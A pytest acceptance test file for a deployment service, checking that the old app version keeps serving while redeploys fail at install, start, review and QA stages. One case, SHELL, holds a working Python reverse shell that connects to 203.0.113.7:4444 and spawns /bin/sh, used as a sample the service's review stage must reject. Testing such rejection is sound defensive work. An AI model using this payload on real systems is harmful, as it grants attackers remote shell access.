"""Versions that fail, each at another stage: the old one answers all along, and the list of versions says why."""

from __future__ import annotations

import logging
from collections.abc import Iterator
from typing import Any, NamedTuple

import pytest
from tests.acceptance.live_service import LiveService
from tests.acceptance.load import load
from tests.acceptance.redeploy_app import APP, FILES, SHY

pytestmark = [pytest.mark.root, pytest.mark.engines]

RATE = 25
#: Longer than this no visitor waits, even where the new version has to be given up after the old one has ended.
LONGEST = 29.0
MB = 1_000_000

log = logging.getLogger(__name__)


class Broken(NamedTuple):
    """The change, the code of its failure, and words of the reason."""

    code: str
    words: str
    change: dict[str, Any]


def main(text: str) -> dict[str, Any]:
    return {"files": {**FILES, "main.py": text}}


#: Not to listen is no verdict on a trial, so this one is found out where visitors wait.
DEAF = SHY.replace('sys.exit("this is no trial")', "import time; time.sleep(3600)")

#: Nothing of it is ever run.
SHELL = """
import os, pty, socket
s = socket.socket()
s.connect(("203.0.113.7", 4444))
for number in range(3):
    os.dup2(s.fileno(), number)
pty.spawn("/bin/sh")
"""

CASES = {
    "a reverse shell": Broken("review_failed", "reverse", main(SHELL)),
    "no such package": Broken(
        "install_failed", "no-such-package-x1y2z3", {"files": {**FILES, "requirements.txt": "no-such-package-x1y2z3\n"}}
    ),
    "requirements that exclude each other": Broken(
        "install_failed", "flask", {"files": {**FILES, "requirements.txt": "flask==3.0.0\nflask==2.0.0\n"}}
    ),
    "no such command": Broken("start_failed", "exited with code 127", {"entrypoint": "no-such-command"}),
    "an exception": Broken("start_failed", "no such luck", main("raise SystemExit('no such luck')\n")),
    "an exception after a second": Broken(
        "start_failed", "too late", main("import sys, time; time.sleep(1); sys.exit('too late')\n")
    ),
    "it ends without a fault": Broken("start_failed", '"job_type": "one_time"', main("print('done')\n")),
    "out of memory": Broken(
        "start_failed",
        "out of memory, limit 0.125 GB",
        {**main(f"x = b'x' * {500 * MB}"), "resources": {"memory": 0.125}},
    ),
    "it listens on another port": Broken(
        "start_failed", "on port 5000", {**main(APP.replace('int(os.environ["PORT"])', "5000")), "port": 8000}
    ),
    "it ends where it takes over": Broken("start_failed", "this is no trial", main(SHY)),
    "it is deaf where it takes over": Broken("start_failed", "did not listen on 0.0.0.0:8000", main(DEAF)),
    "the required gate finds fault": Broken("qa_failed", "500", {"env": {"STATUS": "500"}, "require_qa": True}),
}


#: One of each gate and of the start; the others are for the soak.
OFTEN = ("a reverse shell", "it listens on another port", "the required gate finds fault")


@pytest.fixture
def builder(service: LiveService) -> Iterator[dict[str, Any]]:
    with service.deployed("broken", FILES, "python3 main.py", env={"GREETING": "v1"}) as data:
        yield data


@pytest.mark.parametrize(
    "case", [pytest.param(case, marks=[] if case in OFTEN else [pytest.mark.slow]) for case in CASES]
)
def test_old_version_serves_during_failed_redeploys(service: LiveService, builder: dict[str, Any], case: str) -> None:
    code, words, change = CASES[case]
    path = f"/builders/{builder['uuid']}"
    assert service.visit(builder, "note", "POST", content="of the old one").status_code == 200
    with load(service, builder, RATE) as visits, load(service, builder, RATE / 5, "POST") as posts:
        response = service.call("PUT", path, json=change)
    answer = response.json()
    log.info("%s: the longest of %d visits took %.2f s", case, len(visits.seconds), visits.longest)

    assert (response.status_code, answer["code"]) == (422, code), response.text
    assert words in answer["message"]
    assert (answer["data"]["uuid"], answer["data"]["version"]) == (builder["uuid"], 2)
    assert visits.failed + posts.failed == []
    assert set(visits.seen) | set(posts.seen) == {"v1"}
    assert visits.longest < LONGEST
    data = service.builder(builder["uuid"])
    assert (data["status"], data["version"], data["env"]) == ("running", 1, builder["env"])
    newest, old = service.call("GET", f"{path}/versions").json()["data"]
    assert (newest["version"], newest["status"], newest["failure_code"]) == (2, "failed", code)
    assert words in newest["status_reason"]
    assert (old["version"], old["status"], old["current"]) == (1, "deployed", True)
    (event,) = service.call("GET", f"{path}/events?type=version.failed").json()["data"]
    assert event["details"] == {"version": 2, "code": code}
    assert service.visit(builder, "note").text == "of the old one"
